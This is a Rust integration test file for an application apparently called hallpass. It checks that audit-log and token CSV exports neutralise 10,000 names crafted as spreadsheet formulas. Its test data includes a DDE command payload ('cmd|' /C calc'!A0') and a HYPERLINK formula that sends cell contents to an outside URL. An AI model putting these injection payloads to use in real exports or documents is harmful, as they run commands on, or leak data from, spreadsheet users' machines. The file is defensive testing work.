//! Files for a spreadsheet with ten thousand names that it would run: each row whole, none of their cells a formula.

use diesel::prelude::*;
use hallpass::account::by_email;
use hallpass::actor::Actor;
use hallpass::audit::{Subject, record};
use hallpass::policy::Policy;
use hallpass::schema::{generations, tokens};
use hallpass::types::TokenId;

use crate::support::{Answer, Site};

const ROWS: usize = 10_000;
/// What formulas begin with, also in the wide forms of some languages, and what moves a cell or hides what it begins with.
const BEGINNINGS: &[&str] = &[
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u{feff}=",
    "\u{a0}+",
    "＝",
    "＋",
    "－",
    "＠",
    "=\"",
    "\"=",
    "'=",
    ",=",
    ";=",
];
/// What comes behind: quotes, ends of cells and of rows.
const ENDINGS: &[&str] = &[
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://example.org?\"&A1,\"x\")",
    "1+1\r\n=2+2",
    "a;b,c\td",
    "\"\"\"",
    "plain",
    "\u{202e}\u{1f4a1}",
];

fn name(nth: usize) -> String {
    format!("{}{}{nth}", BEGINNINGS[nth % BEGINNINGS.len()], ENDINGS[nth % ENDINGS.len()])
}

/// The rows of a file; every line ends as RFC 4180 has it, and every cell is one that no spreadsheet runs.
fn cells(file: &Answer, columns: usize) -> Vec<Vec<String>> {
    assert_eq!(file.status, 200);
    assert!(file.body.ends_with("\"\r\n"), "it has an end");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.body.as_bytes());
    let rows: Vec<Vec<String>> = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    for row in &rows {
        assert_eq!(row.len(), columns, "{row:?}");
        for cell in row {
            let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{202e}'));
            let runs = seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
            assert!(!runs && !cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
        }
    }
    rows
}

/// What stands in the cell: the name, or the name behind an apostrophe.
fn is_told(cell: &str, name: &str) -> bool {
    cell == name || cell.strip_prefix('\'') == Some(name)
}

#[test]
fn ten_thousand_events_whose_names_are_formulas_are_ten_thousand_harmless_rows() {
    let site = Site::start();
    let maria = site.owner();
    let id = TokenId::from("019ab000-0000-7000-8000-000000000000");
    for part in (0..ROWS).collect::<Vec<_>>().chunks(1_000) {
        let tell = |tx: &mut hallpass::tx::Tx<'_>, nth: usize| {
            let name = name(nth);
            let actor = Actor { name: name.clone(), ..Actor::operator() };
            let detail = serde_json::json!({ "before": { "name": &name }, "after": { "name": "b" } });
            record(tx, &actor, "token.edit", Subject::token(&id, &name), None, detail)
        };
        site.app.write_now(|tx| part.iter().try_for_each(|nth| tell(tx, *nth))).unwrap();
    }
    let rows = cells(&maria.get("/admin/audit.csv?action=token.edit"), 15);
    assert_eq!(rows.len(), ROWS + 1);
    for (nth, row) in rows.iter().skip(1).enumerate() {
        let name = name(nth);
        assert!(is_told(&row[9], &name) && is_told(&row[5], &name), "{nth}: {row:?}");
        let kept: serde_json::Value = serde_json::from_str(&row[13]).unwrap();
        assert_eq!(kept["before"]["name"], name.as_str());
    }
    // A person's own activity is another file.
    let own = cells(&maria.get("/settings/activity.csv"), 9);
    assert!(own.len() > 1);
}

#[test]
fn ten_thousand_tokens_whose_names_are_formulas_are_ten_thousand_harmless_rows() {
    let site = Site::with(Policy { tokens_per_account: 20_000, ..Policy::default() });
    let maria = site.owner_with_zones();
    maria.generate("pattern", &["zones:listZones"]);
    let of = |nth: usize| format!("019ab000-0000-7000-8000-{nth:012x}");
    site.app
        .write_now(|tx| {
            let owner = by_email(tx.conn, "maria@example.com")?.unwrap();
            let pattern: hallpass::token::Token =
                tokens::table.select(hallpass::token::Token::as_select()).first(tx.conn)?;
            for nth in 0..ROWS {
                let (name, id) = (name(nth), TokenId::from(of(nth).as_str()));
                let token = hallpass::token::Token {
                    id: id.clone(),
                    owner_id: owner.id.clone(),
                    name_key: name.to_lowercase(),
                    name,
                    ..pattern.clone()
                };
                diesel::insert_into(tokens::table).values(&token).execute(tx.conn)?;
                let value = (
                    generations::token_id.eq(&id),
                    generations::number.eq(1_i64),
                    generations::digest.eq(format!("{nth:064x}")),
                    generations::starts_with.eq("hp_00000"),
                    generations::created_at.eq(tx.now),
                );
                diesel::insert_into(generations::table).values(value).execute(tx.conn)?;
            }
            Ok(())
        })
        .unwrap();
    let rows = cells(&maria.get("/admin/tokens.csv?sort=created"), 15);
    assert_eq!(rows.len(), ROWS + 2);
    let mut told: Vec<(String, String)> = rows.iter().skip(1).map(|row| (row[0].clone(), row[1].clone())).collect();
    told.sort();
    let made = told.iter().filter(|(id, _)| id.starts_with("019ab000-0000"));
    for (nth, (id, cell)) in made.enumerate() {
        assert!(*id == of(nth) && is_told(cell, &name(nth)), "{nth}: {cell:?}");
    }
}
